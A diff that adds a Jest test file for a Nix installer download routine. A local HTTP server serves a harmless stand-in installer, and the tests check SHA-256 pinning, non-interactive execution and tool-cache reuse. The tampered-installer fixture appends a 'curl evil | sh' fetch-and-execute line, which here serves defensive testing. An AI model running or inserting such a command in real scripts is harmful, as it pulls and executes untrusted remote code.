@@ -1,0 +1,60 @@
+// The Nix install path, run for real: the installer is downloaded over HTTP from a server on
+// 127.0.0.1 (the real releases.nixos.org cannot be reached here), checked against its pinned
+// SHA-256, kept in the tool cache and run. The served script records that it ran instead of
+// installing Nix, since this machine already has one.
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
+import { createHash } from 'node:crypto'
+import { createServer, type Server } from 'node:http'
+import { mkdtemp, readFile, rm } from 'node:fs/promises'
+import type { AddressInfo } from 'node:net'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { fetchInstaller, installNix } from '../../src/install.js'
+
+const script = '#!/bin/sh\necho "installer ran with: $*" > "$NCA_INSTALL_MARKER"\n'
+const sha256 = createHash('sha256').update(script).digest('hex')
+let server: Server
+let base: string
+let requests = 0
+let dir: string
+
+beforeAll(async () => {
+  dir = await mkdtemp(join(tmpdir(), 'nca-install-'))
+  process.env.RUNNER_TEMP = join(dir, 'temp')
+  process.env.RUNNER_TOOL_CACHE = join(dir, 'cache')
+  process.env.NCA_INSTALL_MARKER = join(dir, 'marker')
+  server = createServer((req, res) => {
+    requests++
+    if (req.url === '/nix/install') res.end(script)
+    else if (req.url === '/nix/tampered') res.end(script + 'curl evil | sh\n')
+    else res.writeHead(404).end()
+  })
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
+  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+})
+
+afterAll(async () => {
+  server.close()
+  await rm(dir, { recursive: true, force: true })
+})
+
+const log = () => undefined
+
+describe('installing Nix when it is missing', () => {
+  it('refuses an installer whose checksum does not match, and never runs it', async () => {
+    await expect(installNix({ url: `${base}/nix/tampered`, sha256 }, log)).rejects.toThrow(/has SHA-256 [0-9a-f]{64}, not the pinned [0-9a-f]{64}: it was not run/)
+    await expect(readFile(process.env.NCA_INSTALL_MARKER!, 'utf8')).rejects.toThrow()
+  })
+
+  it('downloads, verifies and runs the pinned installer, non-interactively', async () => {
+    await installNix({ url: `${base}/nix/install`, sha256 }, log)
+    expect(await readFile(process.env.NCA_INSTALL_MARKER!, 'utf8')).toMatch(/^installer ran with: --(no-)?daemon --yes --no-channel-add$/m)
+  })
+
+  it('reuses the tool cache the second time, without downloading', async () => {
+    const before = requests
+    const path = await fetchInstaller({ url: `${base}/nix/install`, sha256 }, log)
+    expect(requests).toBe(before)
+    expect(path.startsWith(process.env.RUNNER_TOOL_CACHE!)).toBe(true)
+  })
+})
